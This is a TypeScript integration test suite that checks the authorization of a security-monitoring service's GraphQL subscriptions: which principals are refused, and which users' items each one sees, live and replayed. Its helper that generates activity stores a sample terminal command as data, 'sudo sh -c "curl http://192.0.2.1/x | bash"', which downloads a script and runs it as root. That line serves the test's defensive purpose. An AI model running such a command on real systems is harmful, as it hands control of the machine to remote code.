import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { rows, seqOf, socketClient, until } from '../flow/harness.ts';
import { data, gauge, trackAll } from '../harness/client.ts';
import type { Principal, Side } from './principals.ts';
import { mayUse, users } from './principals.ts';
import { printed, rulesOf } from './walk.ts';
import type { World } from './world.ts';
import { startWorld } from './world.ts';

/** Every subscription × everybody: refused, or running with the items of those one sees and no others, live and replayed. */

vi.setConfig({ testTimeout: 60_000 }); // hundreds of requests each, on two cores that others use too

let world: World;
beforeAll(async () => {
  world = await startWorld();
});
afterAll(() => world.close());

const sides: readonly Side[] = ['own', 'other'];
const owner = 'user { externalId }';
/** What each subscription is asked for: whose an item is, and all that leads from it to others. */
const events: Record<string, string> = {
  activityRecorded: `ActivityEvent { cursor item: activity { ${owner} session { ${owner} } anomalies { ${owner} session { ${owner} } } } }`,
  highRiskActivity: `ActivityEvent { cursor item: activity { ${owner} session { ${owner} } anomalies { ${owner} alert { ${owner} } } } }`,
  sessionChanged: `SessionEvent { cursor change item: session { ${owner} activities(first: 5) { nodes { ${owner} } } } }`,
  anomalyDetected: `AnomalyEvent { cursor item: anomaly { ${owner} session { ${owner} } evidence(first: 5) { nodes { ${owner} } } } }`,
  alertChanged: `AlertEvent { cursor change item: alert { ${owner} anomalies { ${owner} } criticalActivities(first: 5) { nodes { ${owner} } } } }`,
  userRiskChanged: `UserRiskEvent { cursor ${owner} risk { factors { anomaly { ${owner} session { ${owner} } } } } }`,
  sessionTerminated: 'SessionTerminatedEvent { cursor externalId terminatedAt }',
};
const names = Object.keys(events);

type Owned = { user: { externalId: string } | null };
type Item = { cursor: string; externalId?: string; item?: Owned; user?: Owned['user'] };
type Following = { principal: Principal; name: string; items: Item[]; errors: string[] };
const ownerOf = ({ item, user, externalId }: Item): string | null => {
  if (externalId !== undefined) return externalId.split('-')[0]!;
  return (item?.user ?? user)?.externalId ?? null;
};
const isAdmitted = ({ principal, name }: Pick<Following, 'principal' | 'name'>) => mayUse(principal, rulesOf('Subscription', name)[0]!);
/** Users whose items a stream delivers: those one sees; of terminations all, for whoever checks sessions asks about any. */
const seenIn = ({ principal, name }: Following): readonly string[] =>
  principal.sees === 'ALL' || name === 'sessionTerminated' ? users : principal.sees;

/** Opens all subscriptions for everybody, each principal on one socket. Refusals and items gather in what is returned. */
async function followAll(after: Partial<Record<Side, string>>) {
  const live = 'lapwing_subscriptions_live_total';
  const before = await gauge(world.service, live);
  const clients: { dispose(): void | Promise<void> }[] = [];
  const following = world.principals.flatMap((principal) => {
    const client = socketClient(world.service, principal.key);
    clients.push(client);
    return names.map((name): Following => {
      const one: Following = { principal, name, items: [], errors: [] };
      const query = `subscription($after: Cursor) { ${name}(after: $after) { ... on ${events[name]} } }`;
      const note = (errors: readonly { message: string; extensions?: Record<string, unknown> }[]) =>
        one.errors.push(
          ...errors.map(
            ({ message, extensions }) => `${String(extensions?.code)} ${/You may not use ([\w.]+)/.exec(message)?.[1] ?? message}`,
          ),
        );
      client.subscribe<Record<string, Item>>(
        { query, variables: { after: after[principal.side] ?? null } },
        {
          next: (answer) => void (answer.errors ? note(answer.errors) : one.items.push(answer.data![name]!)),
          error: (error) => void note(Array.isArray(error) ? error : [error as Error]),
          complete: () => {},
        },
      );
      return one;
    });
  });
  const running = following.filter(isAdmitted).length;
  await until('all subscriptions run or are refused', async () => {
    const refused = following.filter(({ errors }) => errors.length > 0).length;
    return refused + (await gauge(world.service, live)) - before >= following.length;
  });
  const close = () => Promise.all(clients.map((client) => client.dispose()));
  return { following, running, started: (await gauge(world.service, live)) - before, close };
}

/** Something for every stream, of every user of both organisations; one acts in the session of another too. */
async function happen(round: string, occurredAt: string): Promise<void> {
  for (const side of sides) {
    const admin = world.admins[side];
    const command = 'sudo sh -c "curl http://192.0.2.1/x | bash"';
    const activities = users.map((user) => ({ user, session: `${user}-${round}`, occurredAt, detail: { terminal: { command } } }));
    const { userErrors } = await trackAll(world.service, [...activities, { ...activities[0]!, user: 'bob' }], admin);
    expect(userErrors).toEqual([]);
    const terminate = `mutation($in: [String!]!) { terminateSessions(input: { filter: { externalId: { in: $in } } }) { sessions { id } } }`;
    const { terminateSessions } = await data(world.service, terminate, { in: users.map((user) => `${user}-${round}`) }, admin);
    expect(terminateSessions.sessions).toHaveLength(users.length);
  }
}

async function headsBySide(): Promise<Record<Side, number>> {
  const found = await rows<{ name: string; seq: string }>(
    world.service.databaseUrl,
    'select o.name, h.seq from log_head h join organisation o on o.id = h.organisation_id',
  );
  const head = (name: string) => Number(found.find((row) => row.name === name)!.seq);
  return { own: head('default'), other: head('other') };
}

/** All external ids anywhere in an item. */
const usersIn = (value: unknown): string[] =>
  [...JSON.stringify(value).matchAll(/"user":\{"externalId":"(\w+)"/g)].map(([, name]) => name!);
const sorted = (list: Iterable<string | null>) => [...new Set(list)].sort();

/** What each stream has delivered of the first round, once the second has come for all that it shows. */
async function judge(following: readonly Following[], between: Record<Side, number>): Promise<string[]> {
  const isLate = ({ principal }: Following, { cursor }: Item) => seqOf(cursor) > between[principal.side];
  const running = following.filter(isAdmitted);
  const lacks = (one: Following) => {
    const late = sorted(one.items.filter((item) => isLate(one, item)).map(ownerOf));
    return seenIn(one).filter((user) => !late.includes(user));
  };
  const complete = () => running.every((one) => lacks(one).length === 0);
  await until('the marker of everybody', complete).catch(() => {}); // what is missing is told below, by name
  return running.flatMap((one) => {
    const where = `${one.principal.name}: ${one.name}`;
    const seen = sorted(seenIn(one));
    const early = sorted(one.items.filter((item) => !isLate(one, item)).map(ownerOf));
    const all = sorted(one.items.flatMap((item) => [ownerOf(item), ...usersIn(item)]));
    return [
      ...lacks(one).map((user) => `${where} has not shown the marker of ${user}`),
      ...(JSON.stringify(early) === JSON.stringify(seen) ? [] : [`${where} showed ${early.join(', ')}, expected ${seen.join(', ')}`]),
      ...all.filter((user) => user === null || !seen.includes(user)).map((user) => `${where} showed something of ${user}`),
      ...(one.errors.length > 0 ? [`${where} failed: ${one.errors.join(' and ')}`] : []),
    ];
  });
}

describe('a subscription', () => {
  it('is one of those here', () => {
    const type = printed.getSubscriptionType()!;
    expect(names.sort()).toEqual(Object.keys(type.getFields()).sort());
  });

  it('is refused by its name or runs, and delivers what is of those one sees, live and replayed', async () => {
    const cursorOf = async (side: Side) =>
      (await data(world.service, '{ system { logHead } }', {}, world.admins[side])).system.logHead as string;
    const cursors = { own: await cursorOf('own'), other: await cursorOf('other') };
    const live = await followAll({});
    const refusals = live.following.flatMap((one) => {
      const expected = isAdmitted(one) ? 'running' : `FORBIDDEN Subscription.${one.name}`;
      const actual = one.errors.join(' and ') || 'running';
      return actual === expected ? [] : [`${one.principal.name}: ${one.name} is ${actual}, expected ${expected}`];
    });
    expect(refusals).toEqual([]);
    expect(live.started).toBe(live.running);

    await happen('first', '2026-01-06T09:00:00Z');
    const between = await headsBySide();
    await happen('marker', '2026-01-06T11:00:00Z');
    expect(await judge(live.following, between)).toEqual([]);
    await live.close();

    const replayed = await followAll(cursors);
    expect(await judge(replayed.following, between)).toEqual([]);
    await replayed.close();
  });

  it('does not begin at a cursor of the other organisation', async () => {
    const { system } = await data(world.service, '{ system { logHead } }', {}, world.admins.other);
    const { following, close } = await followAll({ own: system.logHead });
    const own = following.filter((one) => one.principal.side === 'own' && isAdmitted(one));
    expect(own.filter(({ errors }) => errors.length !== 1 || !/^BAD_REQUEST .*no cursor of your/.test(errors[0]!))).toEqual([]);
    expect(own.flatMap(({ items }) => items)).toEqual([]);
    await close();
  });

  it('keeps the fields of the staff from those who see but some, in every item', async () => {
    const member = world.principals.find(({ name }) => name === 'MEMBER')!;
    const asked: [name: string, selection: string, refused: string][] = [
      ['activityRecorded', 'ActivityEvent { activity { user { baseline { signIns } } } }', 'User.baseline'],
      ['activityRecorded', 'ActivityEvent { activity { anomalies { resolvedBy } } }', 'Anomaly.resolvedBy'],
      ['sessionChanged', 'SessionEvent { session { terminationReason } }', 'Session.terminationReason'],
      ['anomalyDetected', 'AnomalyEvent { anomaly { resolution } }', 'Anomaly.resolution'],
      ['alertChanged', 'AlertEvent { alert { history { note } } }', 'Alert.history'],
      ['alertChanged', 'AlertEvent { alert { acknowledgedBy } }', 'Alert.acknowledgedBy'],
    ];
    const live = 'lapwing_subscriptions_live_total';
    const before = await gauge(world.service, live);
    const client = socketClient(world.service, member.key);
    const answers = asked.map(([name, selection]) => client.iterate({ query: `subscription { ${name} { ... on ${selection} } }` }).next());
    await until('they run', async () => (await gauge(world.service, live)) >= before + asked.length);
    await happen('staff', '2026-01-06T13:30:00Z');
    const told = (await Promise.all(answers)).map(({ value }) =>
      value.errors?.map(
        ({ extensions, message }: { extensions: Record<string, unknown>; message: string }) =>
          `${String(extensions.code)} ${/You may not use ([\w.]+)/.exec(message)?.[1]}`,
      ),
    );
    expect(told).toEqual(asked.map(([, , refused]) => [`FORBIDDEN ${refused}`]));
    await client.dispose();
  });
});
